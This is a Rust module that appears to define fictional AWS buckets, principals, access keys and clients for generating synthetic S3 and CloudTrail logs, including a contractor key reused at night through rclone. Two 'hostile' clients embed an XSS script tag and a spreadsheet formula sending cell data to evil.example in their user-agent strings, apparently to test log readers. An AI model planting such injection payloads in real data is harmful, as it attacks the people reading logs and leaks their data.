//! Who and what plays: buckets, principals, clients. Nothing of it exists: addresses are private ones and those that
//! RFC 5737 sets aside for documentation, and access keys hold the word `EXAMPLE`.

/// The account that all of it belongs to.
pub const ACCOUNT: &str = "111122223333";
/// Its canonical user ID.
pub const OWNER: &str = "5f2c1e7ab0d94f6c8e3a7d1b92c46e80f1a35d7c9b2e48f06d8c1a3e5b7f9024";
/// The Region of the buckets.
pub const REGION: &str = "eu-west-1";
/// The trail.
pub const TRAIL: &str = "acme-trail";

/// A bucket.
pub struct Bucket {
    /// Its name.
    pub name: &'static str,
    /// Whether its server access logging is on.
    pub access_logging: bool,
    /// Whether it keeps versions.
    pub versioned: bool,
}

/// What the company's systems hand each other.
pub static EXPORTS: Bucket = Bucket { name: "acme-exports", access_logging: true, versioned: false };
/// What people read.
pub static REPORTS: Bucket = Bucket { name: "acme-reports", access_logging: true, versioned: true };
/// The website.
pub static WEB: Bucket = Bucket { name: "acme-web", access_logging: true, versioned: false };
/// Where the trail delivers; nobody chose data events for it.
pub static TRAIL_LOGS: Bucket = Bucket { name: "acme-trail-logs", access_logging: true, versioned: false };
/// What Athena answers; nobody turned access logging on.
pub static ATHENA_RESULTS: Bucket = Bucket { name: "acme-athena-results", access_logging: false, versioned: false };

/// How CloudTrail names a principal.
pub enum Identity {
    /// A session of a role: the role's name, its ID, the session.
    Role { role: &'static str, id: &'static str, session: &'static str },
    /// An IAM user: name and ID.
    User { name: &'static str, id: &'static str },
    /// The account's root user.
    Root,
    /// Nobody.
    Anonymous,
    /// An AWS service, by its CloudTrail name and the requester that the access log shows.
    Service { name: &'static str, requester: &'static str },
}

/// A principal.
pub struct Caller {
    /// Its name and kind.
    pub identity: Identity,
    /// The access key that signs its requests; empty where there is none.
    pub access_key: &'static str,
    /// Whether it signed in with a second factor.
    pub mfa: bool,
}

const fn role(role: &'static str, id: &'static str, session: &'static str, access_key: &'static str) -> Caller {
    Caller { identity: Identity::Role { role, id, session }, access_key, mfa: false }
}

const fn user(name: &'static str, id: &'static str, access_key: &'static str) -> Caller {
    Caller { identity: Identity::User { name, id }, access_key, mfa: false }
}

const fn service(name: &'static str, requester: &'static str) -> Caller {
    Caller { identity: Identity::Service { name, requester }, access_key: "", mfa: false }
}

pub static ETL: Caller = role("etl-nightly", "AROAX2ETLNIGHTEXAMPLE", "i-0f3a9c2b7d1e4a650", "ASIAX2ETLN5REXAMPLE1");
pub static EXPORTER: Caller =
    role("order-exporter", "AROAX2ORDEREXPEXAMPLE", "exporter-6c7d9f", "ASIAX2ORDE7TEXAMPLE2");
pub static DASHBOARD: Caller = role("dashboard", "AROAX2DASHBRDSEXAMPLE", "dashboard-prod", "ASIAX2DASH3MEXAMPLE3");
pub static POSTURE: Caller = role("posture-scan", "AROAX2POSTSCANEXAMPLE", "posture-scan", "ASIAX2POST9KEXAMPLE4");
pub static DEPLOY: Caller = role("deploy-web", "AROAX2DEPLOYWBEXAMPLE", "release-pipeline", "ASIAX2DEPL4WEXAMPLE5");
pub static ANNA: Caller = role("analyst", "AROAX2ANALYSTSEXAMPLE", "anna.keller", "ASIAX2ANNA6QEXAMPLE6");
pub static BEN: Caller = role("analyst", "AROAX2ANALYSTSEXAMPLE", "ben.osei", "ASIAX2BENO2HEXAMPLE7");
pub static CARLA: Caller = role("analyst", "AROAX2ANALYSTSEXAMPLE", "carla.ruiz", "ASIAX2CARL8VEXAMPLE8");
pub static ADMIN: Caller = Caller {
    identity: Identity::Role { role: "platform-admin", id: "AROAX2PLATFADMEXAMPLE", session: "jo.brandt" },
    access_key: "ASIAX2JOBR5YEXAMPLE9",
    mfa: true,
};
pub static CONTRACTOR: Caller = user("contractor-lmoss", "AIDAX2LMOSSCTREXAMPLE", "AKIAX2LMOS7CTEXAMPLE");
pub static REPORT_SHARE: Caller = user("report-share", "AIDAX2RPTSHAREEXAMPLE", "AKIAX2RPTS4HREXAMPLE");
pub static LEGACY: Caller = user("legacy-backup", "AIDAX2LEGBACKUEXAMPLE", "AKIAX2LEGB9KPEXAMPLE");
pub static ROOT: Caller = Caller { identity: Identity::Root, access_key: "", mfa: true };
pub static NOBODY: Caller = Caller { identity: Identity::Anonymous, access_key: "", mfa: false };
/// CloudFront's origin access control: the access log shows a requester of 96 digits.
pub static CLOUDFRONT: Caller = service(
    "cloudfront.amazonaws.com",
    "3b9f04c7e1d26a85f0b7c3914d6e82a5709c1f3e5b7d9a2460c8e1f3a5b7d9c0e2f4a6b8c0d1e3f5a7b9c1d3e5f7a9b1",
);
pub static TRAIL_DELIVERY: Caller = service("cloudtrail.amazonaws.com", "svc:cloudtrail.amazonaws.com");
pub static S3_ITSELF: Caller = service("s3.amazonaws.com", "AmazonS3");
pub static EC2_SERVICE: Caller = service("ec2.amazonaws.com", "-");
pub static LAMBDA_SERVICE: Caller = service("lambda.amazonaws.com", "-");

/// How a client's connection is encrypted.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Tls {
    V13,
    V12,
    None,
}

impl Tls {
    /// Version and cipher suite as both logs write them.
    pub fn names(self) -> Option<(&'static str, &'static str)> {
        match self {
            Tls::V13 => Some(("TLSv1.3", "TLS_AES_128_GCM_SHA256")),
            Tls::V12 => Some(("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256")),
            Tls::None => None,
        }
    }
}

/// A program somewhere.
pub struct Client {
    pub user_agent: &'static str,
    pub ip: &'static str,
    pub tls: Tls,
    /// The Region that the access log names when the request came from an address of AWS.
    pub source_region: Option<&'static str>,
    /// The VPC endpoint that the request came through.
    pub vpc_endpoint: Option<&'static str>,
    /// How fast it takes data, in kilobytes a second.
    pub speed: i64,
}

const fn outside(user_agent: &'static str, ip: &'static str, tls: Tls, speed: i64) -> Client {
    Client { user_agent, ip, tls, source_region: None, vpc_endpoint: None, speed }
}

const fn inside(user_agent: &'static str, ip: &'static str, tls: Tls) -> Client {
    let vpc_endpoint = Some("vpce-0a1b2c3d4e5f67890");
    Client { user_agent, ip, tls, source_region: Some(REGION), vpc_endpoint, speed: 85_000 }
}

const BOTO3: &str = "Boto3/1.39.4 md/Botocore#1.39.4 ua/2.1 os/linux#6.1.141-155.222.amzn2023.x86_64 md/arch#x86_64 lang/python#3.12.10 md/pyimpl#CPython m/Z,b,D cfg/retry-mode#standard Botocore/1.39.4";
const SDK_JAVA: &str = "aws-sdk-java/2.31.78 md/io#sync md/http#Apache ua/2.1 os/Linux#6.1.141-155.222.amzn2023.x86_64 lang/java#21.0.7 md/OpenJDK_64-Bit_Server_VM#21.0.7+6-LTS md/vendor#Amazon.com_Inc. m/D,N";
const SDK_JAVA_OLD: &str = "aws-sdk-java/1.11.901 Linux/4.14.355-276.618.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/25.412-b09 java/1.8.0_412 vendor/Oracle_Corporation";
const CLI: &str = "aws-cli/2.27.50 md/awscrt#0.26.1 ua/2.1 os/macos#24.5.0 md/arch#arm64 lang/python#3.13.4 md/pyimpl#CPython m/Z,b,E,C cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#s3.cp";
const CLI_API: &str = "aws-cli/2.27.50 md/awscrt#0.26.1 ua/2.1 os/linux#6.8.0-64-generic md/arch#x86_64 lang/python#3.13.4 md/pyimpl#CPython m/b,E,C cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#s3api";
const CONSOLE: &str = "S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.750 Linux/5.10.225 OpenJDK_64-Bit_Server_VM/25.412-b09 java/1.8.0_412 vendor/Oracle_Corporation cfg/retry-mode/standard";
const CHROME: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36";
const HADOOP: &str =
    "Hadoop 3.3.6-amzn-4, aws-sdk-java/2.29.52 Linux/5.10.236 OpenJDK_64-Bit_Server_VM/17.0.15+6-LTS, AmazonAthena";

pub static ETL_HOST: Client = inside(BOTO3, "10.0.12.34", Tls::V13);
pub static EXPORTER_POD: Client = inside(SDK_JAVA, "10.0.20.11", Tls::V13);
pub static DASHBOARD_HOST: Client = inside(SDK_JAVA_OLD, "10.0.31.5", Tls::V12);
pub static POSTURE_LAMBDA: Client = inside(BOTO3, "10.0.9.9", Tls::V13);
pub static ANNA_LAPTOP: Client = outside(CLI, "203.0.113.20", Tls::V13, 9_000);
pub static BEN_NOTEBOOK: Client = outside(BOTO3, "203.0.113.21", Tls::V13, 12_000);
pub static CARLA_CONSOLE: Client = outside(CONSOLE, "203.0.113.22", Tls::V12, 6_000);
pub static ADMIN_CONSOLE: Client = outside(CONSOLE, "203.0.113.24", Tls::V12, 6_000);
pub static CARLA_BROWSER: Client = outside(CHROME, "203.0.113.22", Tls::V13, 6_000);
pub static ADMIN_BROWSER: Client = outside(CHROME, "203.0.113.24", Tls::V13, 6_000);
pub static ADMIN_CLI: Client = outside(CLI_API, "203.0.113.24", Tls::V13, 9_000);
pub static CONTRACTOR_OFFICE: Client = outside(CLI, "203.0.113.88", Tls::V13, 9_000);
/// Where nobody had seen the contractor's key before.
pub static CONTRACTOR_NIGHT: Client = outside("rclone/v1.68.2", "192.0.2.66", Tls::V13, 48_000);
pub static CONTRACTOR_NIGHT_CLI: Client = outside(CLI_API, "192.0.2.66", Tls::V13, 48_000);
pub static PIPELINE: Client = outside(CLI, "198.51.100.9", Tls::V13, 30_000);
pub static LEGACY_HOST: Client =
    outside("Boto/2.49.0 Python/2.7.18 Linux/3.10.0-1160.el7", "198.51.100.40", Tls::V12, 5_000);
pub static ATHENA: Client = Client {
    user_agent: HADOOP,
    ip: "198.51.100.77",
    tls: Tls::V12,
    source_region: Some(REGION),
    vpc_endpoint: None,
    speed: 90_000,
};
pub static BROWSER: Client = outside(CHROME, "203.0.113.140", Tls::V13, 3_000);
pub static PLAIN_BROWSER: Client = outside(CHROME, "203.0.113.141", Tls::None, 3_000);
pub static EDGE_LOCATION: Client = outside("Amazon CloudFront", "198.51.100.130", Tls::V13, 40_000);
/// Reads the public price list, a few times an hour, for ever.
pub static PRICE_WATCHER: Client = outside("python-requests/2.32.4", "198.51.100.200", Tls::V13, 4_000);
pub static MISCONFIGURED_JOB: Client = outside(
    "aws-sdk-go-v2/1.36.5 ua/2.1 os/linux lang/go#1.24.4 md/GOOS#linux md/GOARCH#amd64 api/s3#1.81.0",
    "198.51.100.61",
    Tls::V13,
    9_000,
);
pub static LATE_CLOCK: Client =
    outside("aws-sdk-cpp/1.11.598 ua/2.1 api/S3 os/Linux#5.15.0 lang/c++#C++17", "192.0.2.140", Tls::V12, 2_000);
/// A scanner that tries to break whoever reads the log.
pub static HOSTILE: Client =
    outside("Mozilla/5.0 \"><script>alert(document.domain)</script> \"quoted\"", "192.0.2.213", Tls::V12, 2_000);
pub static HOSTILE_SHEET: Client =
    outside("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "192.0.2.214", Tls::V12, 2_000);
pub static AWS_INTERNAL: Client = outside("AWS Internal", "AWS Internal", Tls::None, 1);
pub static CLOUDTRAIL_HOST: Client = Client {
    user_agent: "cloudtrail.amazonaws.com",
    ip: "198.51.100.250",
    tls: Tls::V13,
    source_region: Some(REGION),
    vpc_endpoint: None,
    speed: 60_000,
};

/// What visitors of the website come with.
pub const BROWSERS: &[&str] = &[
    CHROME,
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
];
